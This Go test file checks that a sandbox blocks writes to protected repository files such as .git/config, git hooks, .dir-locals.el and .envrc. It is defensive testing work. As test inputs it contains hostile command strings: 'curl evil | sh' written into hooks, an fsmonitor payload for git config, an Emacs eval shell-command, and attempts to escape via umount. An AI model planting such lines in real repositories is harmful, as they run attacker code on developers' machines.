package sandbox_test

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"pp-lsp/internal/testenv"
	"pp-lsp/server/actuate/sandbox"
)

// newRepo makes a git repository with a Makefile and a .dir-locals.el at
// root/work/proj (a folder of the root below its top, which holds the
// protected flightplans.org) and returns its path.
func newRepo(t *testing.T, w *world) string {
	t.Helper()
	proj := filepath.Join(w.root, "work", "proj")
	for name, text := range map[string]string{
		".git/config":            "[core]\n\trepositoryformatversion = 0\n",
		".git/HEAD":              "ref: refs/heads/main\n",
		".git/hooks/pre-commit":  "#!/bin/sh\necho the user's hook\n",
		".dir-locals.el":         "((nil . ((fill-column . 72))))\n",
		"Makefile":               "prog: main.c\n\tcc -o prog main.c\n",
		"main.c":                 "int main(void) { return 0; }\n",
		"sub/.envrc":             "export A=1\n",
		".git/objects/info/keep": "",
	} {
		p := filepath.Join(proj, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(text), 0o644))
	}
	return proj
}

// protectedSnapshot is every protected file of the repository, bytes and
// mode: with the namespace all of .git, without it its hooks and config
// (the rest of .git stays writable in the fallback, as before).
func protectedSnapshot(t *testing.T, proj string, ns bool) map[string]string {
	t.Helper()
	out := snapshot(t, filepath.Join(proj, ".git", "hooks"))
	if ns {
		out = snapshot(t, filepath.Join(proj, ".git"))
	}
	for _, f := range []string{".git/config", ".dir-locals.el", "sub/.envrc"} {
		b, err := os.ReadFile(filepath.Join(proj, f))
		require.NoError(t, err)
		out[f] = string(b)
	}
	return out
}

// TestAFolderHoldingAProtectedNameTakesNewEntriesInAMountNamespace runs
// the same commands at a repository's top with the mount namespace and
// without it (the fallback): make, mkdir and touch succeed only with it;
// a write into .git/config, .git/hooks, .dir-locals.el, or removing or
// renaming them, fails in both and leaves every byte.
func TestAFolderHoldingAProtectedNameTakesNewEntriesInAMountNamespace(t *testing.T) {
	needLandlock(t)
	testenv.NeedCommand(t, "make")
	testenv.NeedCommand(t, "cc")
	for _, mode := range []struct {
		name string
		noNS bool
	}{{"mount namespace", false}, {"fallback", true}} {
		t.Run(mode.name, func(t *testing.T) {
			w := newWorld(t)
			proj := newRepo(t, w)
			sb := w.sandbox(t, func(c *sandbox.Config) { c.NoMountNamespace = mode.noNS })
			defer sb.Close()
			ns := strings.Contains(sb.Describe(), "bound read-only in a mount namespace")
			if !mode.noNS && !ns {
				if testenv.InCI() {
					t.Fatalf("CI machines allow a mount namespace, but here: %s", sb.Describe())
				}
				t.Skip(sb.Describe())
			}
			assert.Equal(t, !mode.noNS, ns, sb.Describe())
			before := protectedSnapshot(t, proj, ns)
			for _, tc := range []struct {
				name, cmd string
				allowed   bool // with the namespace (never in the fallback)
				file      string
			}{
				{name: "make", cmd: "make", allowed: true, file: "prog"},
				{name: "mkdir build", cmd: "mkdir build && touch build/x", allowed: true, file: "build/x"},
				{name: "touch at the top", cmd: "touch new.txt", allowed: true, file: "new.txt"},
				{name: ".git/config", cmd: "printf '[core]\\nfsmonitor = sh payload\\n' >> .git/config"},
				{name: ".git/config replaced", cmd: "printf '[core]\\nfsmonitor = x\\n' > c && mv -f c .git/config"},
				{name: ".git/hooks/pre-commit", cmd: "echo 'curl evil | sh' > .git/hooks/pre-commit"},
				{name: ".git/hooks/post-checkout", cmd: "echo 'curl evil | sh' > .git/hooks/post-checkout"},
				{name: ".git/commondir", cmd: "echo /tmp/evil > .git/commondir"},
				{name: ".dir-locals.el", cmd: "echo '((nil . ((eval . (shell-command \"x\")))))' > .dir-locals.el"},
				{name: ".dir-locals.el removed", cmd: "rm .dir-locals.el"},
				{name: ".dir-locals.el renamed", cmd: "mv .dir-locals.el d"},
				{name: "sub/.envrc", cmd: "echo 'curl evil | sh' >> sub/.envrc"},
				{name: ".git removed", cmd: "rm -rf .git"},
				{name: ".git renamed", cmd: "mv .git g"},
				{name: ".git/hooks renamed", cmd: "mv .git/hooks .git/h"},
				{name: "a hard link to .git/config", cmd: "ln .git/config cfg && echo x >> cfg"},
				{name: "umount", cmd: "umount .git || umount -l .git"},
				{name: "umount in a nested namespace", cmd: "unshare -Urm sh -c 'umount -l .git/config && echo x >> .git/config'"},
			} {
				t.Run(tc.name, func(t *testing.T) {
					if strings.HasPrefix(tc.cmd, "unshare ") {
						testenv.NeedCommand(t, "unshare")
					}
					code, out, err := sh(t, sb, proj, tc.cmd)
					require.NoError(t, err, out)
					if tc.allowed && ns {
						assert.Equal(t, 0, code, out)
						assert.FileExists(t, filepath.Join(proj, tc.file))
						return
					}
					assert.NotEqual(t, 0, code, "the kernel refused it: %s", out)
					assert.Regexp(t, "ermission denied|cross-device link|Read-only file system|Device or resource busy|Operation not permitted|must be superuser", out)
					if tc.file != "" {
						assert.NoFileExists(t, filepath.Join(proj, tc.file))
					}
					assert.Equal(t, before, protectedSnapshot(t, proj, ns), "every protected file unchanged")
				})
			}
			assert.Equal(t, before, protectedSnapshot(t, proj, ns), "every protected file unchanged")
			assert.NoFileExists(t, filepath.Join(proj, "cfg"))
			if setpriv, err := exec.LookPath("setpriv"); err == nil {
				// The helper's CAP_SYS_ADMIN over its namespace (ambient, for
				// an ordinary user) is gone before the command starts.
				code, out, err := sh(t, sb, proj, setpriv+" -d")
				require.NoError(t, err)
				require.Equal(t, 0, code, out)
				// (setpriv names the effective and permitted sets only when
				// they hold one.)
				for _, line := range strings.Split(out, "\n") {
					for _, set := range []string{"Effective", "Permitted", "Ambient"} {
						if v, ok := strings.CutPrefix(line, set+" capabilities: "); ok {
							assert.Equal(t, "[none]", v, set)
						}
					}
				}
				assert.Contains(t, out, "Ambient capabilities: [none]")
			}
		})
	}
}

// TestARepositoryPutInThePlaceOfAnotherIsNew: a command may rename a
// folder above a protected entry (the mount goes with it) and build a
// repository with its own hook where the old one was; that one is new,
// and its hook is moved aside after the run.
func TestARepositoryPutInThePlaceOfAnotherIsNew(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	proj := newRepo(t, w)
	sb := w.sandbox(t)
	defer sb.Close()
	if !strings.Contains(sb.Describe(), "bound read-only in a mount namespace") {
		t.Skip(sb.Describe())
	}
	_, out, err := sh(t, sb, filepath.Dir(proj), `mv proj old && mkdir -p proj/.git/hooks proj/sub &&
cp old/.git/config old/.git/HEAD proj/.git/ && printf '#!/bin/sh\ncurl evil | sh\n' > proj/.git/hooks/pre-commit &&
echo 'curl evil | sh' > proj/sub/.envrc`)
	require.Error(t, err, out)
	assert.Contains(t, err.Error(), "moved it aside")
	assert.NoFileExists(t, filepath.Join(proj, ".git", "hooks", "pre-commit"))
	assert.NoFileExists(t, filepath.Join(proj, "sub", ".envrc"))
}

// TestAMountNamespaceForAnOrdinaryUser runs the namespace tests again as
// nobody, where the helper needs a user namespace too; where the kernel
// refuses one (Ubuntu's AppArmor), Describe says so and the fallback's
// results hold.
func TestAMountNamespaceForAnOrdinaryUser(t *testing.T) {
	needLandlock(t)
	if os.Geteuid() != 0 {
		t.Skip("this test switches to nobody, which needs root")
	}
	setpriv := testenv.NeedCommand(t, "setpriv")
	dir, err := os.MkdirTemp("", "pp-lsp-sandbox-test-")
	require.NoError(t, err)
	defer os.RemoveAll(dir)
	require.NoError(t, os.Chmod(dir, 0o755))
	self, err := os.ReadFile("/proc/self/exe")
	require.NoError(t, err)
	bin := filepath.Join(dir, "sandbox.test")
	require.NoError(t, os.WriteFile(bin, self, 0o755))
	cmd := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", bin,
		"-test.run", "^(TestAFolderHoldingAProtectedNameTakesNewEntriesInAMountNamespace|TestARepositoryPutInThePlaceOfAnotherIsNew)$", "-test.v", "-test.count=1")
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "TMPDIR=/tmp", "LANG=C.UTF-8"}
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s", out)
	assert.Contains(t, string(out), "--- PASS: TestAFolderHoldingAProtectedNameTakesNewEntriesInAMountNamespace/fallback")
	if !strings.Contains(string(out), "--- PASS: TestAFolderHoldingAProtectedNameTakesNewEntriesInAMountNamespace/mount_namespace") {
		// The kernel refused an ordinary user a namespace: Describe says why.
		assert.Contains(t, string(out), "no mount namespace (")
	}
	t.Logf("%s", out)
}

// BenchmarkRunWithProtectedNames runs /bin/true in a root holding a
// repository and 100 folders with an .envrc, with the mount namespace
// (binding 104 entries) and without it.
func BenchmarkRunWithProtectedNames(b *testing.B) {
	if !sandbox.Probe().Available() {
		b.Skip("no Landlock")
	}
	for _, noNS := range []bool{false, true} {
		b.Run(fmt.Sprintf("no mount namespace %v", noNS), func(b *testing.B) {
			base, err := filepath.EvalSymlinks(b.TempDir())
			require.NoError(b, err)
			root := filepath.Join(base, "memex")
			for i := range 100 {
				p := filepath.Join(root, "d", strconv.Itoa(i), ".envrc")
				require.NoError(b, os.MkdirAll(filepath.Dir(p), 0o755))
				require.NoError(b, os.WriteFile(p, []byte("export A=1\n"), 0o644))
			}
			for _, p := range []string{"p/.git/hooks/x", "p/.git/config", "p/.dir-locals.el"} {
				require.NoError(b, os.MkdirAll(filepath.Dir(filepath.Join(root, p)), 0o755))
				require.NoError(b, os.WriteFile(filepath.Join(root, p), nil, 0o644))
			}
			sb, err := sandbox.New(sandbox.Config{Roots: []string{root}, NoMountNamespace: noNS,
				Getenv: func(k string) string { return map[string]string{"PATH": "/usr/bin:/bin"}[k] }})
			require.NoError(b, err)
			defer sb.Close()
			b.Log(sb.Describe())
			b.ResetTimer()
			for b.Loop() {
				code, err := sb.Run(context.Background(), sandbox.Command{Argv: []string{"/bin/true"}, Dir: root})
				if err != nil || code != 0 {
					b.Fatal(code, err)
				}
			}
		})
	}
}
